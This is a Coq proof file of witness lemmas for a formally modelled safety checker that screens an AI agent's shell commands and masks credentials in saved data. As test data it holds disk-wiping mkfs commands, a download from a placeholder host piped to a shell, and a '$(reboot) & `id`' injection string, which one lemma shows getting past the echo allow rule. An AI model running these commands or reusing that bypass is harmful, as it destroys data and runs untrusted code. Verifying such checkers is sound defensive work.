  /\ Some (JStr (str "true")) <> Some (JBool true)
  /\ checkCommandSafety Samples.upper_ascii Samples.race_down
       (Examples.flag_only (JStr (str "true"))) (str "mkfs /dev/sda")
     = ([], Normal true).
Proof.
  split; [reflexivity|]. split; [discriminate|].
  apply (non_true_flag_disables Samples.upper_ascii Samples.race_down
           (Examples.flag_only (JStr (str "true"))) (str "mkfs /dev/sda")
           (Some (JStr (str "true"))));
    [reflexivity | discriminate].
Defined.

(** X2 at work: no model is listed. *)
Lemma static_verdict_without_classifier_witness :
  isObviouslyUnsafe (str "uname -a") = false
  /\ availableModels (Samples.agent true false true []) = []
  /\ checkCommandSafety Samples.upper_ascii (Samples.race_third (str "SAFE"))
       (Samples.agent true false true []) (str "uname -a")
     = ([DenyCheck (str "uname -a"); AllowCheck (str "uname -a")],
        Normal (isStaticallySafe (str "uname -a"))).
Proof.
  split; [by vm_compute|]. split; [reflexivity|].
  apply (static_verdict_without_classifier Samples.upper_ascii
           (Samples.race_third (str "SAFE"))
           (Samples.agent true false true []) (str "uname -a")
           (Some (JBool false)) (Some (JBool true)));
    [reflexivity | by vm_compute | reflexivity | reflexivity
    | right; right; reflexivity].
Defined.

(** X3 at work: the third attempt is answered, in lower case. *)
Lemma classifier_answer_decides_witness :
  Samples.race_third (str " unsafe ") 3
    (getAvailableModel (Samples.agent true false true [str "mistral"]))
    (Some (JStr (str "only listing is safe"))) (str "rm notes.txt")
  = Fulfilled (Some (str " unsafe "))
  /\ (checkCommandSafety Samples.upper_ascii
        (Samples.race_third (str " unsafe "))
        (Samples.agent true false true [str "mistral"])
        (str "rm notes.txt")).2
     = Normal
         (negb (includes (Samples.upper_ascii (trim (str " unsafe ")))
                  (str "UNSAFE")))
  /\ requests
       (checkCommandSafety Samples.upper_ascii
          (Samples.race_third (str " unsafe "))
          (Samples.agent true false true [str "mistral"])
          (str "rm notes.txt")).1
     = [(1%nat, str "mistral"); (2%nat, str "mistral");
        (3%nat, str "mistral")].
Proof.
  split; [reflexivity|].
  destruct (classifier_answer_decides Samples.upper_ascii
              (Samples.race_third (str " unsafe "))
              (Samples.agent true false true [str "mistral"])
              (str "rm notes.txt") (Some (JBool false))
              (Some (JStr (str "only listing is safe"))) 3 (str " unsafe "))
    as (Hverdict & _ & Hrequests & _);
    [reflexivity | by vm_compute | reflexivity | discriminate | reflexivity
    | discriminate | reflexivity | unfold MAX_RETRIES; lia | | reflexivity
    | ].
  - intros attempt Hattempt.
    assert (attempt = 1 \/ attempt = 2)%nat as [->| ->] by lia; exact I.
  - split; [exact Hverdict|exact Hrequests].
Defined.

(** X8 at work. *)
Lemma mkfs_anywhere_is_unsafe_witness :
  includes (str "sudo /sbin/mkfs.ext4 /dev/sdb1") (str "mkfs") = true
  /\ isObviouslyUnsafe (str "sudo /sbin/mkfs.ext4 /dev/sdb1") = true.
Proof.
  split; [by vm_compute|].
  apply (mkfs_anywhere_is_unsafe (str "sudo /sbin/mkfs.ext4 /dev/sdb1")).
  by vm_compute.
Defined.

(** X9 at work. *)
Lemma allowed_commands_start_with_known_word_witness :
  isStaticallySafe (str "ping -c 3 example.org") = true
  /\ existsb (fun word => is_prefix (str word) (str "ping -c 3 example.org"))
       ["ls"; "pwd"; "echo"; "cd"; "cat"; "mkdir"; "cp"; "df"; "du"; "ps";
        "grep"; "ping"; "uname"; "whoami"; "date"; "apt"]%string = true.
Proof.
  split; [by vm_compute|].
  apply (allowed_commands_start_with_known_word
           (str "ping -c 3 example.org")).
  by vm_compute.
Defined.

(** X10 at work: a command substitution and a background job. *)
Lemma echo_accepts_text_without_pipes_witness :
  forallb (fun c => negb ((c =? 124) || (c =? 62) || (c =? 59)))
    (str "$(reboot) & `id`") = true
  /\ isStaticallySafe (str "echo " ++ str "$(reboot) & `id`") = true.
Proof.
  split; [by vm_compute|].
  apply (echo_accepts_text_without_pipes (str "$(reboot) & `id`")).
  by vm_compute.
Defined.

(** X16 at work. *)
Lemma json_round_trip_through_file_witness :
  representable Examples.credentials = true
  /\ JSON_parse (utf8_text (JSON_stringify Examples.credentials 2))
     = Normal Examples.credentials.
Proof.
  split; [by vm_compute|].
  apply (json_round_trip_through_file Examples.credentials 2).
  by vm_compute.
Defined.

(** X18 at work. *)
Lemma restart_restores_session_witness :
  wf_checkpoint (getCheckpoint Samples.completed_ls)
  /\ startup (str "session_checkpoint.json")
       (saveCheckpoint (str "session_checkpoint.json")
          (getCheckpoint Samples.completed_ls) true ∅).2
     = Normal (Untyped.of_session Samples.completed_ls).
Proof.
  assert (wf_checkpoint (getCheckpoint Samples.completed_ls)) as Hwf.
  { split; [reflexivity|]. repeat constructor. }
  split; [exact Hwf|].
  apply (restart_restores_session (str "session_checkpoint.json")
           Samples.completed_ls ∅ Hwf).
Defined.

(** X19 at work: the checkpoint file holds four opening brackets. *)
Lemma startup_tolerates_unusable_checkpoint_witness :
  ({[ str "session_checkpoint.json" := str "[[[[" ]}
     : gmap jsstring jsstring) !! str "session_checkpoint.json"
  = Some (str "[[[[")
  /\ JSON_parse (str "[[[[") = Throw SyntaxError
  /\ startup (str "session_checkpoint.json")
       {[ str "session_checkpoint.json" := str "[[[[" ]}
     = Normal Untyped.constructor.
Proof.
  assert (({[ str "session_checkpoint.json" := str "[[[[" ]}
             : gmap jsstring jsstring) !! str "session_checkpoint.json"
          = Some (str "[[[[")) as Hfile by (by vm_compute).
  assert (JSON_parse (str "[[[[") = Throw SyntaxError)
    as Hparse by (by vm_compute).
  split; [exact Hfile|]. split; [exact Hparse|].
  apply (startup_tolerates_unusable_checkpoint
           (str "session_checkpoint.json")
           {[ str "session_checkpoint.json" := str "[[[[" ]}).
  right. left. exists (str "[[[["), SyntaxError.
  split; [exact Hfile|exact Hparse].
Defined.

(** X20 at work. *)
Lemma handed_over_only_when_judged_safe_witness :
  answer (run_safe_command (str "command_history.json") Samples.upper_ascii
            Samples.race_down (Samples.agent true true false []) true
            (str "ls -la") (str "2025-01-01T00:00:04.000Z") true
            Samples.completed_ls ∅)
  = Normal (HandedOver (str "ls -la"))
  /\ (checkCommandSafety Samples.upper_ascii Samples.race_down
        (Samples.agent true true false []) (str "ls -la")).2 = Normal true.
Proof.
  assert (answer (run_safe_command (str "command_history.json")
                    Samples.upper_ascii Samples.race_down
                    (Samples.agent true true false []) true
                    (str "ls -la") (str "2025-01-01T00:00:04.000Z") true
                    Samples.completed_ls ∅)
          = Normal (HandedOver (str "ls -la"))) as Hanswer
    by (by vm_compute).
  split; [exact Hanswer|].
  apply (handed_over_only_when_judged_safe (str "command_history.json")
           Samples.upper_ascii Samples.race_down
           (Samples.agent true true false []) true
           (str "ls -la") (str "2025-01-01T00:00:04.000Z") true
           Samples.completed_ls ∅ (str "ls -la") Hanswer).
Defined.

(** X21 at work: a download piped to a shell, with a classifier that would
    answer SAFE. *)
Lemma denied_command_is_refused_witness :
  isObviouslyUnsafe (str "curl http://x.example/i.sh | sh") = true
  /\ answer (run_safe_command (str "command_history.json")
               Samples.upper_ascii (Samples.race_third (str "SAFE"))
               (Samples.agent true false true [str "mistral"]) true
               (str "curl http://x.example/i.sh | sh")
               (str "2025-01-01T00:00:04.000Z") true Samples.completed_ls ∅)
     = Normal Refused.
Proof.
  assert (isObviouslyUnsafe (str "curl http://x.example/i.sh | sh") = true)
    as Hdeny by (by vm_compute).
  split; [exact Hdeny|].
  by rewrite (denied_command_is_refused (str "command_history.json")
                Samples.upper_ascii (Samples.race_third (str "SAFE"))
                (Samples.agent true false true [str "mistral"])
                (str "curl http://x.example/i.sh | sh")
                (str "2025-01-01T00:00:04.000Z") true Samples.completed_ls ∅
                eq_refl Hdeny).
Defined.

(** X22 at work. *)
Lemma null_configuration_fails_the_call_witness :
  JSON_parse (str "null") = Normal JNull
  /\ answer (run_safe_command (str "command_history.json")
               Samples.upper_ascii Samples.race_down
               {| secagentconfig := JNull; availableModels := [] |} true
               (str "ls") (str "2025-01-01T00:00:04.000Z") true
               Samples.completed_ls ∅)
     = Throw TypeError.
Proof.
  split; [reflexivity|].
  by rewrite (null_configuration_fails_the_call (str "command_history.json")
                Samples.upper_ascii Samples.race_down
                {| secagentconfig := JNull; availableModels := [] |}
                (str "ls") (str "2025-01-01T00:00:04.000Z") true
                Samples.completed_ls ∅ eq_refl).
Defined.

(** X23 at work. *)
Lemma command_history_file_reads_back_witness :
  Forall wf_command (this_commands Samples.completed_ls)
  /\ (text ← readFileSync (str "command_history.json")
              (files_after
                 (run_safe_command (str "command_history.json")
                    Samples.upper_ascii Samples.race_down
                    (Samples.agent true true false []) true (str "pwd")
                    (str "2025-01-01T00:00:04.000Z") true
                    Samples.completed_ls ∅));
      JSON_parse text)
     = Normal (JArr (map command_to_json
                       (this_commands Samples.completed_ls
                          ++ [Samples.pending "pwd"
                                "2025-01-01T00:00:04.000Z"]))).
Proof.
  assert (Forall wf_command (this_commands Samples.completed_ls)) as Hwf
    by (repeat constructor).
  split; [exact Hwf|].
  apply (command_history_file_reads_back (str "command_history.json")
           Samples.upper_ascii Samples.race_down
           (Samples.agent true true false []) (str "pwd")
           (str "2025-01-01T00:00:04.000Z") Samples.completed_ls ∅ Hwf).
Defined.

(** X25 at work. *)
Lemma sanitizeData_idempotent_witness :
  representable Examples.credentials = true
  /\ sanitizeData Examples.lower_ascii
       (sanitizeData Examples.lower_ascii Examples.credentials)
     = sanitizeData Examples.lower_ascii Examples.credentials.
Proof.
  split; [by vm_compute|].
  apply (sanitizeData_idempotent Examples.lower_ascii Examples.credentials).
  by vm_compute.
Defined.

Lemma lower_ascii_digits s :
  forallb is_digit s = true -> Examples.lower_ascii s = s.
Proof.
  unfold Examples.lower_ascii.
  induction s as [|c s IH]; [done|]. cbn [forallb map].
  intros [Hc Hs]%andb_true_iff. rewrite (IH Hs). f_equal.
  apply andb_true_iff in Hc as [Hlo%N.leb_le Hhi%N.leb_le].
  destruct (in_range 65 90 c) eqn:Hup; [|done].
  apply andb_true_iff in Hup as [?%N.leb_le ?%N.leb_le]. lia.
Qed.

(** X26 at work, with lower-casing of ASCII letters. *)
Lemma sanitizeData_shape_witness :
  (forall s, forallb is_digit s = true -> Examples.lower_ascii s = s)
  /\ sanitizeData Examples.lower_ascii
       (JArr [JStr (str "token"); Examples.credentials])
     = JArr [JStr (str "token");
             sanitizeData Examples.lower_ascii Examples.credentials]
  /\ sanitizeData Examples.lower_ascii Examples.credentials
     = JObj [(str "host", JStr (str "build.example.org"));
             (str "port", JNum 22);
             (str "password", JStr (str "********"));
             (str "options",
              JObj [(str "apiKey", JStr (str "********"));
                    (str "retries", JNum 3)]);
             (str "tags", JArr [JStr (str "prod"); JNull])].
Proof.
  split; [exact lower_ascii_digits|].
  destruct (sanitizeData_shape Examples.lower_ascii lower_ascii_digits)
    as (_ & Harray & _).
  split; [apply Harray|by vm_compute].
Defined.

(** X6 at work: the configuration enables the classifier. *)
Lemma no_request_before_models_are_listed_witness :
  SecAgent.constructor (str "secagentconfig.json")
    (str "http://localhost:11434")
    {[ str "secagentconfig.json"
       := JSON_stringify (Samples.config true false true) 2 ]} None
  = Normal {| secagentconfig := Samples.config true false true;
              availableModels := [] |}
  /\ requests
       (checkCommandSafety Samples.upper_ascii (Samples.race_third (str "SAFE"))
          {| secagentconfig := Samples.config true false true;
             availableModels := [] |} (str "rm notes.txt")).1 = [].
Proof.
  assert (SecAgent.constructor (str "secagentconfig.json")
            (str "http://localhost:11434")
            {[ str "secagentconfig.json"
               := JSON_stringify (Samples.config true false true) 2 ]} None
          = Normal {| secagentconfig := Samples.config true false true;
                      availableModels := [] |}) as Hnew by (by vm_compute).
  split; [exact Hnew|].
  apply (no_request_before_models_are_listed Samples.upper_ascii
           (Samples.race_third (str "SAFE")) _ _ _ _ _ (str "rm notes.txt")
           Hnew).
Defined.
